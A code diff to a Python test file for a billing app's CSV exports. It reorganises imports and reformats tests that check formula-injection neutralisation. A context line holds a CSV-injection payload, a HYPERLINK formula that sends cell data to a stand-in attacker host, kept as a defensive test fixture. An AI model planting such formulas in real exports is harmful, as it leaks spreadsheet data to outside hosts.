@@ -14,7 +14,6 @@ from pathlib import Path
 import polars as pl
 import pytest
 
-import kpi_ui
 from billing.ar.review import CSV_COLUMNS as REVIEW_COLUMNS
 from billing.ar.review import review_csv
 from billing.export import invoice_csv
@@ -26,10 +25,11 @@ from billing.store import (
     list_drafts,
     save_drafts,
 )
-from etl.csv_safe import frame_csv, neutralise, neutralise_frame, rows_csv
-from metrics.exception_review import queue_csv
+from core.csv_safe import frame_csv, neutralise, neutralise_frame, rows_csv
+from read_models.exception_review import queue_csv
 from tests.billing.firm import build, entry
 from tests.conftest import ROOT
+from ui import kpi_ui
 
 HOSTILE = {
     '=HYPERLINK("http://evil.example/?"&A1)': '\'=HYPERLINK("http://evil.example/?"&A1)',
@@ -138,11 +138,21 @@ def test_ar_review_csv_neutralises_notes_and_names():
 
 
 def test_exception_queue_csv_neutralises_text():
-    queue = pl.DataFrame({"exception_id": ["E-1"], "title": ["-1+1 leaked"],
-                          "refs": [["=A1", "T-2"]], "value": [D("-5.00")]})  # fmt: skip
+    queue = pl.DataFrame(
+        {
+            "exception_id": ["E-1"],
+            "title": ["-1+1 leaked"],
+            "refs": [["=A1", "T-2"]],
+            "value": [D("-5.00")],
+        }
+    )
     out = next(csv.DictReader(io.StringIO(queue_csv(queue))))
-    assert out == {"exception_id": "E-1", "title": "'-1+1 leaked", "refs": "'=A1;T-2",
-                   "value": "-5.00"}  # fmt: skip
+    assert out == {
+        "exception_id": "E-1",
+        "title": "'-1+1 leaked",
+        "refs": "'=A1;T-2",
+        "value": "-5.00",
+    }
 
 
 def test_kpi_csv_button_serves_the_neutralised_csv(monkeypatch):
@@ -156,11 +166,19 @@ def test_kpi_csv_button_serves_the_neutralised_csv(monkeypatch):
     assert served["file_name"] == "utilization_.._.._P-1_x_weeks.csv"
 
 
-APP_CODE = ["app.py", "app_state.py", "kpi_ui.py", "kpi_drill.py", "pages", "metrics", "billing"]
+APP_CODE = [
+    "app.py",
+    "ui/app_state.py",
+    "ui/kpi_ui.py",
+    "ui/kpi_drill.py",
+    "pages",
+    "metrics",
+    "billing",
+]
 
 
 def test_no_download_writes_csv_around_the_neutraliser():
-    """Every CSV a person downloads goes through etl.csv_safe: no other app code calls
+    """Every CSV a person downloads goes through core.csv_safe: no other app code calls
     polars' write_csv or the csv module's writers."""
     offenders = []
     for name in APP_CODE:
